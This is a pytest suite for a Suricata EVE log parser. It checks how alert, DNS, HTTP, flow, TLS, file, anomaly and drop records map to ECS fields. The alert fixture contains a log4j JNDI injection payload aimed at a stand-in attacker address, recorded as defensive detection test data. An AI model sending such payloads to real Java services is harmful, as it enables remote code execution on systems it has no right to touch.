"""Suricata EVE parser: alert, dns, http, flow, tls, fileinfo and anomaly records to ECS fields."""

from __future__ import annotations

import contextlib
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from socflow.normalize.ecs import ECSDocument, get
from socflow.normalize.registry import ParseContext, ParseError
from socflow.normalize.suricata import SURICATA_EVE, parse, sniff

CONTEXT = ParseContext(received_at=datetime(2026, 12, 3, 18, 0, tzinfo=UTC))

ALERT = (
    '{"timestamp":"2026-12-03T17:20:01.512345+0100","flow_id":1234567890123456,"in_iface":"eth1",'
    '"event_type":"alert","src_ip":"198.51.100.77","src_port":40123,"dest_ip":"192.0.2.20","dest_port":80,'
    '"proto":"TCP","community_id":"1:AbCdEfGhIjKlMnOpQrStUvWxYz0=","tx_id":0,'
    '"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":3,'
    '"signature":"ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",'
    '"category":"Attempted Administrator Privilege Gain","severity":1},'
    '"http":{"hostname":"www.example.com","url":"/?x=${jndi:ldap://198.51.100.77/a}",'
    '"http_user_agent":"curl/8.5.0","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":612},'
    '"app_proto":"http"}'
)
DNS_V2 = (
    '{"timestamp":"2026-12-03T17:21:00.000100+0000","flow_id":99887766,"in_iface":"eth1","event_type":"dns",'
    '"src_ip":"192.0.2.53","src_port":53,"dest_ip":"192.0.2.44","dest_port":51000,"proto":"UDP",'
    '"dns":{"version":2,"type":"answer","id":4321,"flags":"8180","qr":true,"rd":true,"ra":true,'
    '"rrname":"www.example.com","rrtype":"A","rcode":"NOERROR","answers":['
    '{"rrname":"www.example.com","rrtype":"CNAME","ttl":300,"rdata":"edge.example.net"},'
    '{"rrname":"edge.example.net","rrtype":"A","ttl":60,"rdata":"203.0.113.80"}]}}'
)
DNS_QUERY_V3 = (
    '{"timestamp":"2026-12-03T17:21:00.000050+0000","flow_id":99887766,"event_type":"dns",'
    '"src_ip":"192.0.2.44","src_port":51000,"dest_ip":"192.0.2.53","dest_port":53,"proto":"UDP",'
    '"dns":{"version":3,"type":"request","tx_id":0,"id":4321,"queries":[{"rrname":"www.example.com",'
    '"rrtype":"AAAA"}]}}'
)
HTTP = (
    '{"timestamp":"2026-12-03T17:23:10.000000+0000","flow_id":777,"event_type":"http","src_ip":"192.0.2.44",'
    '"src_port":52000,"dest_ip":"203.0.113.80","dest_port":80,"proto":"TCP","tx_id":1,'
    '"http":{"hostname":"downloads.example.com","url":"/files/setup.exe?v=2","http_user_agent":"Wget/1.21",'
    '"http_content_type":"application/octet-stream","http_refer":"http://www.example.com/",'
    '"http_method":"GET","protocol":"HTTP/1.1","status":404,"length":162}}'
)
FLOW = (
    '{"timestamp":"2026-12-03T17:22:00.000000+0000","flow_id":5555,"event_type":"flow","src_ip":"2001:db8::10",'
    '"src_port":50000,"dest_ip":"2001:db8::80","dest_port":443,"proto":"TCP","app_proto":"tls",'
    '"flow":{"pkts_toserver":12,"pkts_toclient":10,"bytes_toserver":1800,"bytes_toclient":9000,'
    '"start":"2026-12-03T17:21:30.250000+0000","end":"2026-12-03T17:21:45.750000+0000","age":15,'
    '"state":"closed","reason":"timeout","alerted":false}}'
)
TLS = (
    '{"timestamp":"2026-12-03T17:24:00.000000+0000","flow_id":888,"event_type":"tls","src_ip":"192.0.2.44",'
    '"src_port":53000,"dest_ip":"203.0.113.80","dest_port":443,"proto":"TCP",'
    '"tls":{"subject":"CN=www.example.com","issuerdn":"C=US, O=Example CA, CN=Example Issuing CA 1",'
    '"serial":"0A:1B:2C","fingerprint":"aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd",'
    '"sni":"www.example.com","version":"TLS 1.3","notbefore":"2026-01-01T00:00:00",'
    '"notafter":"2027-01-01T00:00:00","ja3":{"hash":"e7d705a3286e19ea42f587b344ee6865"}}}'
)
FILEINFO = (
    '{"timestamp":"2026-12-03T17:25:00.000000+0000","flow_id":999,"event_type":"fileinfo",'
    '"src_ip":"203.0.113.80","src_port":80,"dest_ip":"192.0.2.44","dest_port":52000,"proto":"TCP",'
    '"fileinfo":{"filename":"/files/setup.exe","magic":"PE32 executable (GUI) Intel 80386, for MS Windows",'
    '"state":"CLOSED","md5":"0123456789abcdef0123456789abcdef",'
    '"sha256":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f","stored":false,'
    '"size":48213,"tx_id":0}}'
)
ANOMALY = (
    '{"timestamp":"2026-12-03T17:26:00.000000+0000","flow_id":1001,"event_type":"anomaly",'
    '"src_ip":"198.51.100.9","src_port":443,"dest_ip":"192.0.2.44","dest_port":53001,"proto":"TCP",'
    '"anomaly":{"type":"applayer","event":"INVALID_RECORD_TYPE","layer":"proto_parser"}}'
)


def _parse(text: str) -> ECSDocument:
    doc = parse(text, CONTEXT)
    assert doc is not None, text
    return doc


def test_suricata_alert_maps_rule_and_severity() -> None:
    doc = _parse(ALERT)
    assert get(doc, "event.kind") == "alert"
    assert get(doc, "event.category") == ["network", "intrusion_detection"]
    assert get(doc, "event.type") == ["allowed"]
    assert get(doc, "event.action") == "allowed"
    assert get(doc, "event.severity") == 1
    assert get(doc, "rule.id") == "2034647"
    assert get(doc, "rule.name") == "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)"
    assert get(doc, "rule.category") == "Attempted Administrator Privilege Gain"
    assert get(doc, "rule.version") == "3"
    assert get(doc, "suricata.eve.alert.gid") == 1


def test_suricata_alert_maps_common_fields() -> None:
    doc = _parse(ALERT)
    assert get(doc, "@timestamp") == "2026-12-03T16:20:01.512345Z"
    assert get(doc, "source.ip") == "198.51.100.77"
    assert get(doc, "source.port") == 40123
    assert get(doc, "destination.ip") == "192.0.2.20"
    assert get(doc, "destination.port") == 80
    assert get(doc, "network.transport") == "tcp"
    assert get(doc, "network.protocol") == "http"
    assert get(doc, "network.community_id") == "1:AbCdEfGhIjKlMnOpQrStUvWxYz0="
    assert get(doc, "observer.ingress.interface.name") == "eth1"
    assert get(doc, "suricata.eve.flow_id") == "1234567890123456"
    assert get(doc, "observer.vendor") == "OISF"
    assert get(doc, "observer.product") == "Suricata"
    assert get(doc, "observer.type") == "ids"
    assert get(doc, "event.dataset") == "suricata.eve"
    assert get(doc, "related.ip") == ["198.51.100.77", "192.0.2.20"]


def test_suricata_alert_carries_its_http_transaction() -> None:
    doc = _parse(ALERT)
    assert get(doc, "url.domain") == "www.example.com"
    assert get(doc, "url.original") == "/?x=${jndi:ldap://198.51.100.77/a}"
    assert get(doc, "user_agent.original") == "curl/8.5.0"
    assert get(doc, "event.kind") == "alert"
    assert get(doc, "event.type") == ["allowed"]


def test_suricata_blocked_alert_is_denied() -> None:
    doc = _parse(ALERT.replace('"action":"allowed"', '"action":"blocked"'))
    assert get(doc, "event.type") == ["denied"]
    assert get(doc, "event.action") == "blocked"


def test_suricata_dns_answer_maps_question_answers_and_resolved_ips() -> None:
    doc = _parse(DNS_V2)
    assert get(doc, "dns.question.name") == "www.example.com"
    assert get(doc, "dns.question.type") == "A"
    assert get(doc, "dns.type") == "answer"
    assert get(doc, "dns.id") == "4321"
    assert get(doc, "dns.response_code") == "NOERROR"
    assert get(doc, "dns.answers") == [
        {"name": "www.example.com", "type": "CNAME", "ttl": 300, "data": "edge.example.net"},
        {"name": "edge.example.net", "type": "A", "ttl": 60, "data": "203.0.113.80"},
    ]
    assert get(doc, "dns.resolved_ip") == ["203.0.113.80"]
    assert get(doc, "dns.header_flags") == ["RD", "RA"]
    assert "203.0.113.80" in get(doc, "related.ip")
    assert get(doc, "event.type") == ["protocol"]
    assert get(doc, "network.protocol") == "dns"
    assert get(doc, "event.kind") == "event"


def test_suricata_dns_v1_single_answer_record() -> None:
    doc = _parse(
        '{"timestamp":"2026-12-03T17:21:00.000100+0000","flow_id":1,"event_type":"dns","src_ip":"192.0.2.53",'
        '"src_port":53,"dest_ip":"192.0.2.44","dest_port":51000,"proto":"UDP","dns":{"type":"answer",'
        '"id":16000,"rcode":"NOERROR","rrname":"mail.example.com","rrtype":"AAAA","ttl":120,'
        '"rdata":"2001:db8::25"}}'
    )
    assert get(doc, "dns.answers") == [
        {"name": "mail.example.com", "type": "AAAA", "ttl": 120, "data": "2001:db8::25"}
    ]
    assert get(doc, "dns.resolved_ip") == ["2001:db8::25"]


def test_suricata_dns_v1_answer_record_names_no_question() -> None:
    doc = _parse(
        '{"timestamp":"2026-12-03T17:21:00.000200+0000","flow_id":2,"event_type":"dns","src_ip":"192.0.2.53",'
        '"src_port":53,"dest_ip":"192.0.2.44","dest_port":51001,"proto":"UDP","dns":{"type":"answer",'
        '"id":16001,"rcode":"NOERROR","rrname":"edge.example.net","rrtype":"A","ttl":30,"rdata":"203.0.113.81"}}'
    )
    assert get(doc, "dns.question") is None
    assert get(doc, "dns.answers") == [
        {"name": "edge.example.net", "type": "A", "ttl": 30, "data": "203.0.113.81"}
    ]
    assert get(doc, "dns.type") == "answer"


def test_suricata_dns_v1_query_record_names_the_question() -> None:
    doc = _parse(
        '{"timestamp":"2026-12-03T17:21:00.000000+0000","flow_id":2,"event_type":"dns","src_ip":"192.0.2.44",'
        '"src_port":51001,"dest_ip":"192.0.2.53","dest_port":53,"proto":"UDP","dns":{"type":"query",'
        '"id":16001,"rrname":"mail.example.com","rrtype":"MX","tx_id":0}}'
    )
    assert get(doc, "dns.question.name") == "mail.example.com"
    assert get(doc, "dns.question.type") == "MX"


def test_suricata_dns_v3_query_list() -> None:
    doc = _parse(DNS_QUERY_V3)
    assert get(doc, "dns.question.name") == "www.example.com"
    assert get(doc, "dns.question.type") == "AAAA"
    assert get(doc, "dns.type") == "request"
    assert get(doc, "dns.answers") is None


def test_suricata_http_maps_url_method_status_and_agent() -> None:
    doc = _parse(HTTP)
    assert get(doc, "url.domain") == "downloads.example.com"
    assert get(doc, "url.original") == "/files/setup.exe?v=2"
    assert get(doc, "url.path") == "/files/setup.exe"
    assert get(doc, "url.query") == "v=2"
    assert get(doc, "http.request.method") == "GET"
    assert get(doc, "http.response.status_code") == 404
    assert get(doc, "http.response.body.bytes") == 162
    assert get(doc, "http.response.mime_type") == "application/octet-stream"
    assert get(doc, "http.request.referrer") == "http://www.example.com/"
    assert get(doc, "http.version") == "1.1"
    assert get(doc, "user_agent.original") == "Wget/1.21"
    assert get(doc, "event.outcome") == "failure"
    assert get(doc, "event.category") == ["network", "web"]


def test_suricata_flow_maps_counters_and_times() -> None:
    doc = _parse(FLOW)
    assert get(doc, "source.bytes") == 1800
    assert get(doc, "destination.bytes") == 9000
    assert get(doc, "network.bytes") == 10800
    assert get(doc, "source.packets") == 12
    assert get(doc, "destination.packets") == 10
    assert get(doc, "network.packets") == 22
    assert get(doc, "event.start") == "2026-12-03T17:21:30.250000Z"
    assert get(doc, "event.end") == "2026-12-03T17:21:45.750000Z"
    assert get(doc, "event.duration") == 15_500_000_000
    assert get(doc, "suricata.eve.flow.state") == "closed"
    assert get(doc, "suricata.eve.flow.reason") == "timeout"
    assert get(doc, "suricata.eve.flow.alerted") is False
    assert get(doc, "event.type") == ["connection", "end"]
    assert get(doc, "source.ip") == "2001:db8::10"


def test_suricata_flow_that_saw_no_time_pass_lasts_zero() -> None:
    doc = _parse(
        FLOW.replace('"end":"2026-12-03T17:21:45.750000+0000"', '"end":"2026-12-03T17:21:30.250000+0000"')
    )
    assert get(doc, "event.duration") == 0


def test_suricata_alert_carries_its_flow_counters_and_start() -> None:
    doc = _parse(
        ALERT.replace(
            '"app_proto":"http"}',
            '"app_proto":"http","flow":{"pkts_toserver":5,"pkts_toclient":4,"bytes_toserver":610,'
            '"bytes_toclient":1900,"start":"2026-12-03T17:20:00.900000+0100"}}',
        )
    )
    assert get(doc, "source.bytes") == 610
    assert get(doc, "destination.bytes") == 1900
    assert get(doc, "network.bytes") == 2510
    assert get(doc, "network.packets") == 9
    assert get(doc, "event.start") == "2026-12-03T16:20:00.900000Z"
    assert get(doc, "event.type") == ["allowed"]
    assert get(doc, "event.outcome") is None


def test_suricata_ethernet_addresses_map_to_source_and_destination_mac() -> None:
    doc = _parse(
        ALERT.replace(
            '"tx_id":0,', '"tx_id":0,"ether":{"src_mac":"00:00:5e:00:53:0a","dest_mac":"00:00:5e:00:53:0b"},'
        )
    )
    assert get(doc, "source.mac") == "00-00-5E-00-53-0A"
    assert get(doc, "destination.mac") == "00-00-5E-00-53-0B"


def test_suricata_app_layer_record_without_app_proto_names_its_protocol() -> None:
    doc = _parse(
        '{"timestamp":"2026-12-03T17:27:00.000000+0000","flow_id":2003,"event_type":"ssh","src_ip":"198.51.100.4",'
        '"src_port":60001,"dest_ip":"192.0.2.22","dest_port":22,"proto":"TCP","ssh":{}}'
    )
    assert get(doc, "network.protocol") == "ssh"
    assert get(doc, "event.type") == ["protocol"]


def test_suricata_fileinfo_carries_its_http_transaction() -> None:
    doc = _parse(
        FILEINFO.replace(
            '"fileinfo":',
            '"app_proto":"http","http":{"hostname":"downloads.example.com","url":"/files/setup.exe",'
            '"http_method":"GET","status":200,"length":48213},"fileinfo":',
        )
    )
    assert get(doc, "url.path") == "/files/setup.exe"
    assert get(doc, "destination.domain") == "downloads.example.com"
    assert get(doc, "http.response.status_code") == 200
    assert get(doc, "event.category") == ["network", "file"]
    assert get(doc, "event.type") == ["info"]


def test_suricata_tls_maps_certificate_and_client_fields() -> None:
    doc = _parse(TLS)
    assert get(doc, "tls.server.subject") == "CN=www.example.com"
    assert get(doc, "tls.server.issuer") == "C=US, O=Example CA, CN=Example Issuing CA 1"
    assert get(doc, "tls.client.server_name") == "www.example.com"
    assert get(doc, "tls.version") == "1.3"
    assert get(doc, "tls.version_protocol") == "tls"
    assert get(doc, "tls.client.ja3") == "e7d705a3286e19ea42f587b344ee6865"
    assert get(doc, "tls.server.hash.sha1") == "AABBCCDDEEFF00112233445566778899AABBCCDD"
    assert get(doc, "tls.server.not_after") == "2027-01-01T00:00:00Z"


def test_suricata_tls_server_name_drops_the_root_dot() -> None:
    doc = _parse(TLS.replace('"sni":"www.example.com"', '"sni":"www.example.com."'))
    assert get(doc, "tls.client.server_name") == "www.example.com"
    assert get(doc, "destination.domain") == "www.example.com"


def test_suricata_fileinfo_maps_file_and_hashes() -> None:
    doc = _parse(FILEINFO)
    assert get(doc, "file.path") == "/files/setup.exe"
    assert get(doc, "file.name") == "setup.exe"
    assert get(doc, "file.size") == 48213
    assert get(doc, "file.hash.md5") == "0123456789abcdef0123456789abcdef"
    assert get(doc, "file.hash.sha256") == "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    assert get(doc, "related.hash") == [
        "0123456789abcdef0123456789abcdef",
        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    ]
    assert get(doc, "event.category") == ["network", "file"]


def test_suricata_anomaly_maps_event_and_layer() -> None:
    doc = _parse(ANOMALY)
    assert get(doc, "event.action") == "INVALID_RECORD_TYPE"
    assert get(doc, "suricata.eve.anomaly.type") == "applayer"
    assert get(doc, "suricata.eve.anomaly.layer") == "proto_parser"


def test_suricata_other_event_types_keep_the_common_fields() -> None:
    doc = _parse(
        '{"timestamp":"2026-12-03T17:27:00.000000+0000","flow_id":2002,"event_type":"ssh","src_ip":"198.51.100.4",'
        '"src_port":60000,"dest_ip":"192.0.2.22","dest_port":22,"proto":"TCP","ssh":{"client":'
        '{"proto_version":"2.0","software_version":"OpenSSH_9.6"}}}'
    )
    assert get(doc, "suricata.eve.event_type") == "ssh"
    assert get(doc, "destination.port") == 22
    stats = _parse(
        '{"timestamp":"2026-12-03T17:28:00.000000+0000","event_type":"stats","stats":{"uptime":60}}'
    )
    assert get(stats, "event.kind") == "metric"


def test_suricata_behind_a_program_prefix_is_parsed() -> None:
    doc = _parse("suricata[2211]: " + FLOW)
    assert get(doc, "network.bytes") == 10800


def test_suricata_broken_json_is_a_parse_error() -> None:
    with pytest.raises(ParseError):
        parse(ALERT[:-20], CONTEXT)


def test_suricata_bad_timestamp_is_a_parse_error() -> None:
    with pytest.raises(ParseError):
        parse(FLOW.replace("2026-12-03T17:22:00.000000+0000", "yesterday"), CONTEXT)


def test_suricata_other_json_is_not_claimed() -> None:
    assert parse('{"event_type":"login","user":"alice"}', CONTEXT) is None
    assert parse('{"ts":1.5,"uid":"C1","id.orig_h":"192.0.2.1"}', CONTEXT) is None
    assert parse(json.dumps(["event_type"]), CONTEXT) is None


@pytest.mark.parametrize("line", [ALERT, DNS_V2, HTTP, FLOW, TLS, FILEINFO, ANOMALY])
def test_suricata_sniff_accepts_eve_records(line: str) -> None:
    assert sniff(line)


@pytest.mark.parametrize(
    "line",
    [
        '{"ts":1796318400.1,"uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"192.0.2.44","conn_state":"SF"}',
        '{"@timestamp":"2026-12-03T17:00:00Z","event":{"kind":"event"},"source":{"ip":"192.0.2.1"}}',
        '{"event_type":"user_login","user":"alice"}',
        "CEF:0|OISF|Suricata|7.0|2034647|ET EXPLOIT|3|src=192.0.2.1",
    ],
)
def test_suricata_sniff_refuses_other_formats(line: str) -> None:
    assert not sniff(line)


def test_suricata_spec_outranks_generic_json() -> None:
    assert SURICATA_EVE.name == "suricata-eve"
    assert SURICATA_EVE.priority > 90
    assert SURICATA_EVE.wants_syslog_body


@given(st.text(max_size=300))
def test_suricata_parse_never_raises_other_than_parse_error(text: str) -> None:
    with contextlib.suppress(ParseError):
        parse(text, CONTEXT)


_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=10,
)


@given(
    st.sampled_from(["alert", "dns", "http", "flow", "tls", "fileinfo", "anomaly", "stats"]),
    st.dictionaries(
        st.sampled_from(
            [
                "timestamp",
                "src_ip",
                "dest_ip",
                "src_port",
                "proto",
                "alert",
                "dns",
                "http",
                "flow",
                "tls",
                "vlan",
            ]
        ),
        _JSON_VALUES,
        max_size=6,
    ),
)
def test_suricata_parse_survives_eve_shaped_records_with_odd_values(
    event_type: str, fields: dict[str, object]
) -> None:
    record = {"event_type": event_type, "flow_id": 1, **fields}
    with contextlib.suppress(ParseError):
        parse(json.dumps(record), CONTEXT)


@given(_JSON_VALUES, _JSON_VALUES)
def test_suricata_parse_survives_any_event_type_and_dns_answers(event_type: object, answers: object) -> None:
    record = {"event_type": event_type, "src_ip": "192.0.2.1", "dns": {"type": "answer", "answers": answers}}
    with contextlib.suppress(ParseError):
        parse(json.dumps(record), CONTEXT)


DROP = (
    '{"timestamp":"2026-12-03T17:25:00.000100+0000","flow_id":2233445566,"in_iface":"eth1",'
    '"event_type":"drop","src_ip":"198.51.100.77","src_port":40124,"dest_ip":"192.0.2.20","dest_port":80,'
    '"proto":"TCP","app_proto":"http","drop":{"len":60,"tos":0,"ttl":52,"ipid":4242,"tcpseq":1001,'
    '"tcpack":0,"tcpwin":64240,"syn":true,"ack":false,"psh":false,"rst":false,"urg":false,"fin":false,'
    '"tcpres":0,"tcpurgp":0,"reason":"stream error"},'
    '"http":{"hostname":"portal.example.net","url":"/admin","http_method":"GET","status":200}}'
)


def test_suricata_drop_is_a_denied_network_event_with_its_reason() -> None:
    doc = _parse(DROP)
    assert get(doc, "event.kind") == "event"
    assert get(doc, "event.category") == ["network", "intrusion_detection"]
    assert get(doc, "event.type") == ["denied"]
    assert get(doc, "event.outcome") is None  # the carried HTTP status says nothing about the drop
    assert get(doc, "event.reason") == "stream error"
    assert get(doc, "url.domain") == "portal.example.net"
    assert get(doc, "source.ip") == "198.51.100.77"


def test_suricata_drop_by_a_rule_is_that_rules_alert() -> None:
    record = DROP.replace(
        '"reason":"stream error"}',
        '"reason":"rules"},"alert":{"action":"blocked","gid":1,"signature_id":9000101,"rev":2,'
        '"signature":"LOCAL block admin path","category":"Web Application Attack","severity":2}',
    )
    doc = _parse(record)
    assert get(doc, "event.kind") == "alert"
    assert get(doc, "event.type") == ["denied"]
    assert get(doc, "event.action") == "blocked"
    assert get(doc, "rule.id") == "9000101"
    assert get(doc, "rule.name") == "LOCAL block admin path"
    assert get(doc, "event.severity") == 2
    assert get(doc, "event.reason") == "rules"
